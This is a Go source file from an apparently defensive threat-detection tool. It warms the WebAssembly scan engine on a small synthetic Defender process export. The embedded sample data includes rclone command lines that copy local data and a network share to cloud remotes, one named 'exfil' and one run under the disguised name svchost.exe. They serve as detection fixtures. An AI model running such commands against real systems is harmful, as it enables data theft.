//go:build js && wasm

package main

import (
	"context"
	"io"
	"strings"

	"offhunt/detect"
)

// warmExport is a small Defender export for warm: a plain rclone copy, a
// renamed rclone (by its flags, a remote, a config file and its version
// information), and an
// ordinary process, so that every rule's filters, a finding's explanation
// and the findings' JSON all run.
const warmExport = `Timestamp,DeviceId,DeviceName,ActionType,FileName,FolderPath,SHA256,ProcessVersionInfoOriginalFileName,ProcessVersionInfoCompanyName,ProcessVersionInfoInternalFileName,ProcessVersionInfoProductName,ProcessVersionInfoFileDescription,ProcessCommandLine,AccountName,InitiatingProcessFileName
2025-01-01T00:00:00Z,d1,host1,ProcessCreated,rclone.exe,C:\Users\Public\rclone.exe,,rclone.exe,https://rclone.org,rclone,Rclone,Rsync for cloud storage,"rclone.exe copy C:\data mega:exfil --ignore-existing --auto-confirm",alice,powershell.exe
2025-01-01T00:00:01Z,d1,host1,ProcessCreated,svchost.exe,C:\Users\Public\svchost.exe,,rclone.exe,https://rclone.org,rclone,Rclone,Rsync for cloud storage,"svchost.exe copy \\fs01\share remote:backup --transfers 8 --config C:\Users\Public\a.conf",alice,cmd.exe
2025-01-01T00:00:02Z,d1,host1,ProcessCreated,notepad.exe,C:\Windows\notepad.exe,,,,,,,"notepad.exe C:\notes.txt",alice,explorer.exe
`

// warm scans warmExport once before the engine says it is ready.
// WebAssembly code is compiled lazily, on a function's first call, and the
// first scan of a session also pays for lazy start-up work (builtin
// signatures parsed, tables built, the heap grown): measured in Chromium,
// the first scan spent 0.25-0.33 s compiling the rules, where later ones
// spend 0.06 s. Warming moves that to the engine's start, before an
// analyst can have chosen a file (a file dropped earlier waits, as it
// always did). In an alternating A/B on the 75 MB bench export, scans took
// 2.68, 2.93 and 2.85 s warmed and 2.92, 3.65 and 3.00 s not.
func warm() {
	defer func() { _ = recover() }() // warming is an optimisation: never fatal
	_, _ = warmScan()
}

// warmScan is warm's scan; it returns the findings so that a test can
// check that warming runs the rules, not an error.
func warmScan() (*detect.Findings, error) {
	in := detect.Input{Name: "warm.csv", Size: int64(len(warmExport)), Open: func() (io.ReadCloser, error) {
		return io.NopCloser(strings.NewReader(warmExport)), nil
	}}
	f, err := detect.Scan(context.Background(), []detect.Input{in}, detect.ScanOptions{Options: detect.Options{Now: "latest"}, OnFinding: func(detect.Finding) {}})
	if err != nil {
		return nil, err
	}
	if _, err := FindingsJSON(f); err != nil {
		return nil, err
	}
	return f, nil
}
